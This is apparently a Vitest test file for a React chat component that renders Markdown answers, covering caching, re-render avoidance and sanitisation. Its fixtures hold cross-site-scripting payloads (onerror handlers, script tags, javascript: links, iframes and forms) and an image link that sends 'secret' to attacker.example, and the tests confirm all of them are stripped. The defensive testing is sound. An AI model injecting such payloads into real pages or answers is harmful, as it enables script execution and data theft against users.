// @vitest-environment jsdom
import hljs from 'highlight.js/lib/core';
import { act } from 'react';
import type { Root } from 'react-dom/client';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { markdownHtml } from './markdown-html';
import { reactRootPerTest } from '../react-root-per-test';
import { AnswerMarkdown } from '@/components/chat/AnswerMarkdown';
import { renderedAnswers } from '@/components/chat/rendered-answers';

(globalThis as unknown as { IS_REACT_ACT_ENVIRONMENT: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

let container: HTMLDivElement;
let root: Root;
reactRootPerTest((c, r) => {
  container = c;
  root = r;
});
afterEach(() => {
  vi.restoreAllMocks();
});

const show = (id: string, text: string, done: boolean) => act(() => root.render(<AnswerMarkdown key={id} id={id} text={text} done={done} />));

const ANSWER = 'Here is the fix:\n\n```ts\nconst answer = 42;\nexport default answer;\n```\n\nAnd **that** is all.\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```python\ndef f():\n    return "x"\n```';
const HOSTILE = [
  'Now <img src="x" onerror="alert(1)"> and <script>alert(2)</script> **bold**',
  '![chart](https://attacker.example/c.png?q=secret) and [x](javascript:alert(1))',
  '> quoted code:\n>\n> ```js\n> let a = 1;\n> ```',
  '<a href="javascript:alert(3)">raw link</a>',
  '<svg><foreignObject><iframe src="https://attacker.example"></iframe></foreignObject></svg> <form action="https://attacker.example"><input name="q"></form>',
  'The end.',
].join('\n\n');

describe('AnswerMarkdown: a finished answer mounted before anything kept it (a row scrolled into view ahead of the idle fill)', () => {
  it('shows the nodes Markdown renders for it, and keeps them for the next mount', () => {
    show('first-1', ANSWER, true);
    expect(container.innerHTML).toBe(markdownHtml(ANSWER));
    expect(container.querySelectorAll('button.copy')).toHaveLength(2);
    expect(renderedAnswers.has('first-1', ANSWER)).toBe(true);
  });

  it('the same for hostile content: sanitised as Markdown sanitises it, nothing of it left to run or to fetch by itself', () => {
    show('first-2', HOSTILE, true);
    expect(container.innerHTML).toBe(markdownHtml(HOSTILE));
    expect(container.innerHTML).not.toMatch(/onerror|<script|javascript:|<img|<svg|<iframe|<form|<input/);
    // A Markdown image is shown as a link to it, never fetched.
    expect(container.querySelector('a[href^="https://attacker.example/c.png"]')!.textContent).toContain('Image from attacker.example');
    expect(container.querySelector('blockquote button.copy')).not.toBeNull();
  });

  // The panel's CSP is checked while the browser parses, even into an inert document: raw HTML is
  // rebuilt by prefilterHtml first, so no handler or style of an answer ever reaches that parser.
  it('gives the browser’s parser no handler, style or base of the answer’s raw HTML', () => {
    const parse = vi.spyOn(DOMParser.prototype, 'parseFromString');
    show('first-5', 'Look <img src="x" onerror="alert(1)"> <b style="color:red" onclick="f()">here</b> <base href="https://attacker.example/">', true);
    const parsed = parse.mock.calls.map(([html]) => html).join('\n');
    expect(parsed).toContain('here');
    expect(parsed).not.toMatch(/onerror|onclick|style=|<base/);
  });

  it('sanitises its prose blocks in one call, not one per block', () => {
    const text = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} with **bold** and [a link](https://example.com/${i}).`).join('\n\n');
    const expected = markdownHtml(text);
    // DOMPurify parses each call's HTML into a document of its own.
    const parse = vi.spyOn(DOMParser.prototype, 'parseFromString');
    show('first-3', text, true);
    expect(parse).toHaveBeenCalledTimes(1);
    expect(container.innerHTML).toBe(expected);
  });

  it('a streaming answer that finishes while shown keeps the nodes Markdown rendered: not rendered a second time', () => {
    show('first-4', ANSWER.slice(0, 60), false);
    show('first-4', ANSWER, false);
    const block = container.querySelector('.md-block');
    const highlight = vi.spyOn(hljs, 'highlight');
    show('first-4', ANSWER, true);
    expect(container.querySelector('.md-block')).toBe(block);
    expect(highlight).not.toHaveBeenCalled();
    expect(container.innerHTML).toBe(markdownHtml(ANSWER));
    expect(renderedAnswers.has('first-4', ANSWER)).toBe(true);
  });
});
